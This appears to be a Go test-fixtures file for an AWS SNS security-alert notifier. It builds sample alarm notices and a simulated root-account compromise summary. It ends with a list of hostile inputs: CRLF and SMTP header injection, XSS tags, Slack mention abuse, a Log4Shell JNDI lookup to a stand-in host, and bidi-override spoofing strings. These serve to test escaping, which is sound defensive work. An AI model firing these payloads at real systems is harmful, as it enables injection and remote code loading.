package notifytest

import (
	"strings"
	"time"

	"tocsin/core/evidence"
	"tocsin/core/topic"
	"tocsin/notify"
)

const (
	topicARN  = "arn:aws:sns:eu-central-1:111122223333:security"
	messageID = "0b6d2f6e-6c2e-5a43-9a3c-3f1d0c6f5a11"
	token     = "2336412f37f0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9"
	site      = topic.Site("https://tocsin.example.com")
)

var published = time.Date(2026, 9, 14, 11, 18, 44, 512e6, time.UTC)

// Notes are a note of every kind.
func Notes(p topic.Protocol, endpoint string) []notify.Note {
	return []notify.Note{
		Alarm(p, endpoint), Over(p, endpoint), Plain(p, endpoint),
		Confirm(p, endpoint), Restore(p, endpoint),
	}
}

func note(p topic.Protocol, endpoint string) notify.Note {
	return notify.Note{
		Subscription: topic.Subscription{
			ARN:      topicARN + ":8a21d249-4329-4871-acc6-7be709c6ea7f",
			TopicARN: topicARN, Owner: "111122223333", Protocol: p, Endpoint: endpoint, Confirmed: true,
		},
		ContentType: topic.DefaultContentType,
		Site:        site,
		Trusted:     true,
	}
}

func signed(d topic.Document) topic.Document {
	d.SignatureVersion = topic.SignatureV1
	d.Signature = "bm90IGEgcmVhbCBzaWduYXR1cmU="
	d.SigningCertURL = site.Certificate("0123456789abcdef0123456789abcdef")
	return d
}

func notification(p topic.Protocol, endpoint string, m topic.Message) notify.Note {
	n := note(p, endpoint)
	m.ID, m.TopicARN, m.Published = messageID, topicARN, published
	n.Message = m
	n.Document = signed(m.Notification(p, n.Subscription.ARN, site))
	return n
}

// Alarm is the notice of an alarm that rings.
func Alarm(p topic.Protocol, endpoint string) notify.Note {
	n := notification(p, endpoint, topic.Message{
		Subject: `ALARM: "root-usage" in EU (Frankfurt)`,
		Default: `{"AlarmName":"root-usage","AlarmDescription":null,"AWSAccountId":"111122223333","NewStateValue":"ALARM"}`,
		Bodies:  map[topic.Protocol]string{topic.Email: "You are receiving this email because of an alarm.\n"},
	})
	s := Summary()
	n.Summary = &s
	return n
}

// Over is the notice that the alarm is over.
func Over(p topic.Protocol, endpoint string) notify.Note {
	n := notification(p, endpoint, topic.Message{
		Subject: `OK: "root-usage" in EU (Frankfurt)`,
		Default: `{"AlarmName":"root-usage","NewStateValue":"OK"}`,
	})
	n.Message.ID = "5d1c8f0e-94ab-5e0f-8c4e-0c5a7e1f3b22"
	n.Document.MessageID = n.Message.ID
	n.Summary = &evidence.Summary{
		Alarm: "root-usage", AlarmARN: "arn:aws:cloudwatch:eu-central-1:111122223333:alarm:root-usage",
		Title: "The root user was used", Severity: "critical", State: "OK", Previous: "ALARM",
		Reason: "Threshold Crossed: no datapoints were received for 1 period and 1 missing datapoint was treated as [NonBreaching].",
		At:     published.Add(10 * time.Minute),
	}
	return n
}

// Plain is a message that tells of no alarm, with attributes.
func Plain(p topic.Protocol, endpoint string) notify.Note {
	return notification(p, endpoint, topic.Message{
		Subject: "Nightly report",
		Default: "12 log files, all validated.\nNothing is missing.",
		Attributes: map[string]topic.Attribute{
			"source": {Type: "String", Value: "nightly"},
			"digest": {Type: "Binary", Value: "AAEC/w=="},
		},
	})
}

// Confirm asks the endpoint to confirm its subscription.
func Confirm(p topic.Protocol, endpoint string) notify.Note {
	n := note(p, endpoint)
	n.Subscription.Confirmed = false
	n.Token = token
	n.Document = signed(topic.ConfirmSubscription(topicARN, topic.Request{MessageID: messageID, Token: token, Time: published}, site))
	return n
}

// Restore tells the endpoint that its subscription has ended.
func Restore(p topic.Protocol, endpoint string) notify.Note {
	n := note(p, endpoint)
	n.Token = token
	n.Document = signed(topic.ConfirmUnsubscribe(n.Subscription.ARN, topic.Request{MessageID: messageID, Token: token, Time: published}, site))
	return n
}

// Summary is that of an alarm that rings, with everything that a summary may have.
func Summary() evidence.Summary {
	at := func(minute, second int) time.Time { return time.Date(2026, 9, 14, 11, minute, second, 0, time.UTC) }
	const root = "arn:aws:iam::111122223333:root"
	const deploy = "arn:aws:sts::111122223333:assumed-role/OrganizationAccountAccessRole/maria.keller@example.com"
	return evidence.Summary{
		Alarm:    "root-usage",
		AlarmARN: "arn:aws:cloudwatch:eu-central-1:111122223333:alarm:root-usage",
		Title:    "The root user was used",
		Severity: "critical",
		State:    "ALARM",
		Previous: "OK",
		Reason:   "Threshold Crossed: 1 datapoint [14.0 (14/09/26 11:13:00)] was greater than or equal to the threshold (1.0).",
		At:       published, From: at(13, 4), To: at(17, 59), Count: 14,
		Principals: []evidence.Count{{Text: root, Count: 12}, {Text: deploy, Count: 2}},
		Actions: []evidence.Count{
			{Text: "iam:CreateAccessKey", Count: 6},
			{Text: "s3:PutBucketPolicy", Count: 3},
			{Text: "signin:ConsoleLogin", Count: 2},
			{Text: "cloudtrail:StopLogging", Count: 1},
			{Text: "kms:ScheduleKeyDeletion", Count: 1},
			{Text: "ec2:RunInstances", Count: 1},
		},
		Keys:      []evidence.Count{{Text: "AKIAIOSFODNN7EXAMPLE", Count: 12}},
		Addresses: []evidence.Count{{Text: "198.51.100.23", Count: 12}, {Text: "2001:db8:85a3::8a2e:370:7334", Count: 2}},
		Accounts:  []evidence.Count{{Text: "111122223333", Count: 14}},
		Regions:   []evidence.Count{{Text: "us-east-1", Count: 13}, {Text: "eu-central-1", Count: 1}},
		Errors:    []evidence.Count{{Text: "AccessDenied", Count: 2}},
		Newest: []evidence.Event{
			{
				Time: at(17, 59), EventID: "3038ebd2-c98a-4c65-9b6e-e22506292313", Source: "cloudtrail.amazonaws.com", Name: "StopLogging",
				Principal: root, Address: "198.51.100.23", UserAgent: "aws-cli/2.17.44 md/awscrt#0.21.2 ua/2.0 os/linux#6.1 lang/python#3.11.9",
				Account: "111122223333", Region: "us-east-1",
			},
			{
				Time: at(17, 31), EventID: "e755e09c-42f9-4c5c-9064-effe94e0af6f", Source: "kms.amazonaws.com", Name: "ScheduleKeyDeletion",
				Principal: deploy, Address: "2001:db8:85a3::8a2e:370:7334", UserAgent: "Mozilla/5.0 (X11; Linux x86_64) see http://www.evil.example/payload",
				Account: "111122223333", Region: "eu-central-1", ErrorCode: "AccessDenied",
				ErrorMessage: "User: " + deploy + " is not authorized to perform: kms:ScheduleKeyDeletion on resource: arn:aws:kms:eu-central-1:111122223333:key/5f2b2d5c-6f9c-4bb0-8f8e-0d1a2b3c4d5e",
			},
			{
				Time: at(15, 12), EventID: "1c7e8a1e-5c54-4c63-a1c7-0d5bb4a2b9ce", Source: "iam.amazonaws.com", Name: "CreateAccessKey",
				Principal: root, Address: "198.51.100.23", UserAgent: "console.amazonaws.com", Account: "111122223333", Region: "us-east-1",
			},
			{
				Time: at(13, 4), EventID: "77bb2f3f-0b0f-4f9a-8a39-5a5f70c9e5d4", Source: "signin.amazonaws.com", Name: "ConsoleLogin",
				Principal: root, Address: "198.51.100.23", UserAgent: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)", Account: "111122223333", Region: "us-east-1",
			},
		},
		Command: `tocsin search '{ $.userIdentity.type = "Root" }' --since 2026-09-14T11:13:04Z --until 2026-09-14T11:18:00Z`,
	}
}

// Injected is in every hostile text that tries to be more than text.
const Injected = "X-Injected"

// Hostile are texts that break receivers which do not escape.
var Hostile = []string{
	"a\r\nX-Injected: yes\r\n\r\n<b>body</b>",
	"a\nX-Injected: yes\n\nbody",
	"a\rX-Injected: yes",
	"a\r\n.\r\nMAIL FROM:<x@example.com>\r\nRCPT TO:<y@example.com>\r\nDATA\r\nX-Injected: yes\r\n.\r\n",
	"a\n.\nX-Injected: yes\r.\r",
	"<script>alert('X-Injected')</script><img src=x onerror=alert(1)><a href=\"https://evil.example\">click</a>",
	"\"><style>*{display:none}</style><!--",
	"</title></style></script><iframe src=https://evil.example></iframe>",
	"<!channel> <!here> <@U012ABCDEF> <https://evil.example|click> *b* _i_ ~s~ `c` ```block``` @here @channel &lt;!channel&gt;",
	"https://evil.example/x www.evil.example HTTP://evil.example mailto:me@evil.example javascript:alert(1)",
	"{{.Title}} {{template \"head\"}} ${jndi:ldap://evil.example/a} %s%n%d",
	"\x00\x01\x1b[31mred\x1b[0m\x07\x08\x7f\u0085\u2028\u2029",
	"\u202egnp.exe\u2066\u200b\u200d\ufeff\u00ad\U000e0041",
	"\xff\xfe\xc0\xaf broken \xed\xa0\x80",
	"=?utf-8?q?=0D=0AX-Injected:_yes?=",
	strings.Repeat("A", 200<<10),
	strings.Repeat("&<>\"'`\n", 20<<10),
	strings.Repeat("\u202e", 50<<10),
	"",
}
